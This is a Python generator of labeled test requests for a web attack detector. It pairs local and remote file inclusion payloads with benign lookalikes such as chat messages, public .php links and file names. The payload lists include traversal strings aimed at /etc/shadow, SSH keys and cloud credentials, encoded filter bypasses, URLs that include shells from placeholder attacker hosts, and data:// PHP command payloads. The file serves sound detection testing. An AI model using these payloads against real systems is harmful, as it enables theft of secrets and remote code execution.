"""Blind examples for local file inclusion / path traversal and remote file inclusion, with benign requests
that carry the same words (Slack messages and bios mentioning paths, relative links, public URLs to .php
pages, file names users type, version strings).

Written for this repository from general knowledge of each family, before any rule was changed for it (no
payload list or ruleset regression test was read). Each payload goes into three of our input places
(query, form, JSON, cookie, header), rotating as in family_gen_blind_php.py; the already-encoded payloads
also go raw into a query string and into the URL path. Sub "rfi-link" (plain URLs to scripts) is written
to be reported: the same strings are benign links. Same record schema as family_gen.py; deterministic.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .family_gen import _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, link_requests, prose_request, three_places
from .records import numbered, print_records

TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../etc/hosts",
    "....//....//....//etc/passwd",
    "....\\\\....\\\\windows\\\\system.ini",
    "..;/..;/..;/etc/passwd",
    "/static/..;/..;/WEB-INF/web.xml",
    "..././..././..././etc/group",
    "images/../../../../../etc/issue",
    "./../.././../../etc/passwd",
    "..//..//..//..//etc//passwd",
    "../\\../\\../\\etc/passwd",
    "..%5c..%5c..%5cboot.ini",
    "../../../../../../../../../../../../../../tmp/x",
    "....////....////app/config/database.yml",
    "..\\/..\\/..\\/etc\\/passwd",
    "../../../../var/www/html/config.php",
    "../../../../usr/local/etc/php.ini",
    "file=../../../../../etc/passwd",
    "templates/../../../../../home/ubuntu/.ssh/id_rsa",
    "..\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../../../opt/app/.env",
    "../" * 12 + "etc/passwd",
]
SENSITIVE = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/fd/3",
    "/proc/1/maps",
    "/proc/version",
    "/var/log/apache2/access.log",
    "/var/log/nginx/error.log",
    "/var/log/auth.log",
    "~/.ssh/id_rsa",
    "/home/deploy/.ssh/authorized_keys",
    "/root/.bash_history",
    "/var/www/html/.htaccess",
    ".htpasswd",
    "WEB-INF/web.xml",
    "/WEB-INF/classes/application.properties",
    "/usr/local/apache2/conf/httpd.conf",
    "/etc/mysql/my.cnf",
    "/var/lib/mysql/mysql/user.MYD",
    "/etc/nginx/nginx.conf",
    "/root/.aws/credentials",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/etc/passwd%00.png",
    "/dev/fd/0",
    "/etc/ssh/sshd_config",
]
WINDOWS = [
    "c:\\windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "C:/inetpub/logs/LogFiles/W3SVC1/u_ex230101.log",
    "\\\\?\\C:\\Windows\\win.ini",
    "\\\\.\\C:\\Windows\\system.ini",
    "\\\\localhost\\c$\\windows\\win.ini",
    "\\\\127.0.0.1\\admin$\\system32\\config\\sam",
    "file:///c:/windows/win.ini",
    "file://C:\\Windows\\repair\\sam",
    "C:\\Windows\\Panther\\Unattend.xml",
    "c:/windows/system32/config/system",
    "D:\\xampp\\apache\\conf\\httpd.conf",
    "C:\\ProgramData\\MySQL\\my.ini",
    "C:\\Users\\Administrator\\NTUser.dat",
    "%SYSTEMROOT%\\win.ini",
    "C:\\Windows\\debug\\NetSetup.log",
    "..\\..\\..\\..\\Windows\\System32\\config\\SAM",
    "\\windows\\win.ini",
]
ENCODED = [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fetc/hosts",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afwindows%c0%afwin.ini",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd",
    "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd",
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "..%u2215..%u2215etc%u2215passwd",
    "%2e./%2e./%2e./etc/passwd",
    ".%2e/.%2e/.%2e/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%5c%2e%2e%5cwindows%5csystem.ini",
    "..%255c..%255c..%255cwindows%255cwin.ini",
    "....%2f%2f....%2f%2fetc%2fpasswd",
    "..%3b/..%3b/WEB-INF/web.xml",
    "%252e%252e%255c%252e%252e%255cboot.ini",
    "../../../../etc/passwd%00.jpg",
    "..%2f..%2f..%2fetc%2fpasswd%00",
    "/etc/passwd%00",
    "%2fetc%2fshadow",
    "%2fproc%2fself%2fenviron",
    "c%3a%5cwindows%5cwin.ini",
    "..%00/..%00/etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fvar%2flog%2fnginx%2faccess.log",
    "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
]
RFI = [
    "http://attacker.example/shell.txt?",
    "https://pastebin.example/raw/abc123?",
    "https://attacker.example/r57.txt%00",
    "ftp://files.attacker.example/pub/inc.php",
    "ftp://anonymous:x@203.0.113.5/shell.txt",
    "http://203.0.113.50/s.txt?",
    "http://198.51.100.7:8080/inc/config.php",
    "http://[2001:db8::1]/x.php",
    "https://attacker.example/payload.txt#",
    "http://attacker.example/x.php?cmd=id",
    "http://attacker.example/x.txt%3f",
    "//attacker.example/shell.php",
    "http:/\\attacker.example\\shell.php",
    "\\\\attacker.example\\share\\x.php",
    "\\\\203.0.113.9\\pub\\shell.php",
    "include('http://attacker.example/s.txt');",
    "require_once(\"https://attacker.example/x.php\");",
    "<?php include $_GET['p']; ?>http://attacker.example/a.txt",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "data:text/plain,<?php system($_GET['c']); ?>",
    "http://attacker.example/cmd.jsp?",
    "https://raw.githubusercontent.example/evil/shell/main/shell.txt?",
    "http://attacker.example/backdoor.asp?x=",
    "https://203.0.113.77/w.php?",
    "http://attacker.example/shell.txt?.jpg",
    "http://0xcb007107/x.txt?",
    "https://attacker.example/shell.php%00",
    "ftp://attacker.example/shell.txt#",
    "http://attacker.example/inc.txt?&page=",
    "https://attacker.example/?",
]
URL_PATHS = [
    "/static/../../../../etc/passwd",
    "/api/users/..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%5c..%5c..%5cwindows%5cwin.ini",
    "/assets/%2e%2e/%2e%2e/etc/shadow",
    "/static/..;/..;/WEB-INF/web.xml",
    "/download/....//....//etc/passwd",
    "/img/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/api/files/%252e%252e%252fetc%252fpasswd",
]
# sensitive files asked for directly, and traversals in an argument's name, a bare query, a Referer
ODD_PLACES = [
    "/.htaccess",
    "/.git/config",
    "/.env",
    "/WEB-INF/web.xml",
    "/app/.ssh/id_rsa",
    "/web.config",
    "/.aws/credentials",
    "/.bash_history",
    "/api/users?../../../../etc/passwd",
    "/api/users?/etc/passwd",
    "/api/users?../../etc/passwd=1&page=1",
    "/api/users?file[../../../etc/shadow]=x",
]
REFERERS = ["https://localhost/../../../../etc/passwd", "file:///etc/passwd", "..\\..\\windows\\win.ini"]
# A plain URL to a script on a named host: the same string as a link to a .php page in a website field
# (benign below), so no value pattern tells them apart; reported, not held to the per-sub floor.
RFI_LINK = [
    "http://evil.example.net/c99.php",
    "HTTP://ATTACKER.EXAMPLE/SHELL.PHP",
    "hTTps://attacker.example/inc.phtml",
    "http://attacker.example/x.pl",
]

FAMILIES = {"lfi": {"traversal": TRAVERSAL, "sensitive-file": SENSITIVE, "windows": WINDOWS},
            "rfi": {"rfi": RFI, "rfi-link": RFI_LINK}}
PARAMS = {"lfi": ["file", "page", "path", "template", "doc", "include", "lang", "download"],
          "rfi": ["page", "url", "include", "template", "src", "file", "module", "theme"]}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for family, subs in FAMILIES.items():
        names = PARAMS[family]
        for sub, payloads in subs.items():
            for i, p in enumerate(payloads):
                for place, name in three_places(i, names):
                    n += 1
                    yield {**_place(place, name, p), "id": f"blind-{family}-{n:04d}",
                           "category": family, "sub": sub, "placement": place}
    # already percent-encoded: raw in a query string, raw in the URL path, and as a JSON string
    for i, p in enumerate(ENCODED):
        name = PARAMS["lfi"][i % len(PARAMS["lfi"])]
        for place, rec in (("query", _get(f"/api/users?{name}={p}&page=1")),
                           ("path", _get(f"/static/{p}")),
                           ("json", _json("/api/users", {"email": "a@example.org", name: p}))):
            n += 1
            yield {**rec, "id": f"blind-lfi-{n:04d}", "category": "lfi", "sub": "encoded", "placement": place}
    # a traversal in the URL path itself
    for path in URL_PATHS:
        n += 1
        yield {**_get(path), "id": f"blind-lfi-{n:04d}", "category": "lfi", "sub": "encoded", "placement": "path"}
    for uri in ODD_PLACES:
        n += 1
        yield {**_get(uri), "id": f"blind-lfi-{n:04d}", "category": "lfi", "sub": "odd-place", "placement": "path"}
    for ref in REFERERS:
        n += 1
        rec = _get("/api/users?page=1")
        yield {**rec, "headers": {**rec["headers"], "Referer": ref}, "id": f"blind-lfi-{n:04d}", "category": "lfi",
               "sub": "odd-place", "placement": "header"}

# Benign: people mentioning paths, relative links, public URLs (.php pages included), file names.
SLACK_TEXTS = [
    "config lives in /etc/nginx/conf.d, one file per vhost",
    "see ../docs/README.md for the setup steps",
    "my draft is in C:\\Users\\ann\\Documents\\report.docx",
    "the include path for the old wiki is /usr/share/php",
    "php packages install into /usr/share/php on Debian",
    "logs rotate daily under /var/log/app/, keep 14 days",
    "run ./scripts/deploy.sh from the repo root",
    "the template imports ../partials/header.html",
    "cd .. && make test fixed it for me",
    "put your key in ~/.config/gh/hosts.yml, not in the repo",
    "upgrade went from 1.2..3 to 1.3.0, the changelog skipped a line",
    "the range is 1..10 in Ruby, 1...10 excludes the end",
    "who owns the /proc parsing in the metrics agent?",
    "we mount the volume at /var/lib/postgresql/data",
    "Windows users: the installer writes to C:\\Program Files\\Acme",
    "path separators differ, use os.path.join not '\\\\'",
    "the share \\\\fileserver\\marketing has the new logos",
    "the etc folder in the repo holds sample configs",
    "web.config transforms for the staging slot are in the PR",
    "read the php.net page on include before refactoring the loader",
    "the RFC says relative refs like ../a resolve against the base",
    "hmm... / wait, no. Never mind ..",
    "the docs site is https://docs.example.com/guide/index.php?page=install",
    "backups go to s3://acme-backups/db/2024-06-01.sql.gz",
]
PUBLIC_URLS = [
    "https://www.php.net/manual/en/function.include.php",
    "https://example.com/index.php?page=about",
    "https://forum.example.org/viewtopic.php?t=1234",
    "https://www.example.net/blog/wp-login.php",
    "https://shop.example.com/product.php?id=42&lang=en",
    "https://example.com/about.php",
    "http://intranet-news.example.com/news.php",
    "https://docs.example.com/guide/index.php?page=install#step-2",
    "https://example.org/downloads/notes.txt",
    "https://github.com/acme/app/blob/main/scripts/setup.sh",
    "https://ann.example.dev/",
    "https://cdn.example.org/assets/app.js?v=1.2.3",
    "https://example.com/cgi-bin/guestbook.pl",
    "https://www.example.co.uk/search?q=php+include",
    "ftp://ftp.example.org/pub/README",
]
FILE_NAMES = [
    "report..final.docx",
    "Q3 results (draft)..xlsx",
    "photo_2024-06-01.jpg",
    "notes.txt",
    "my..resume.pdf",
    "index.php",
    "passwd-reset-instructions.pdf",
    "etc.txt",
    "version 1.2..3",
]
PROSE = [
    "the shadow cabinet met on Tuesday; see the minutes",
    "environ 30 minutes (French for about), then the bus",
    "boot camp starts at 9, bring a laptop",
    "win a trip to Windows Live events",
    "fee: 20 EUR / person / day",
    "and/or etc/misc items for the move",
    "A/B tests: variant b won by 3..4 points",
    "Documents and settings for the new hire are in the HR folder",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, "blindben", 1719100000)
    for url in PUBLIC_URLS:
        for rec in (*link_requests(url), _form("/admin/users/search", [("csrf_token", "t0k3n"), ("website", url)])):
            n += 1
            yield {**rec, "id": f"blindben-url-{n:04d}", "category": "benign", "placement": "mixed"}
    for name in FILE_NAMES:
        for rec in (_json("/api/users", {"name": "Ann", "attachment": name}),
                    _get(_query("/api/users", [("file", name), ("page", "1")]))):
            n += 1
            yield {**rec, "id": f"blindben-file-{n:04d}", "category": "benign", "placement": "mixed"}
    n = yield from numbered((prose_request(text) for text in PROSE), "blindben-prose", n, "form")


if __name__ == "__main__":
    print_records(attacks(), benign())
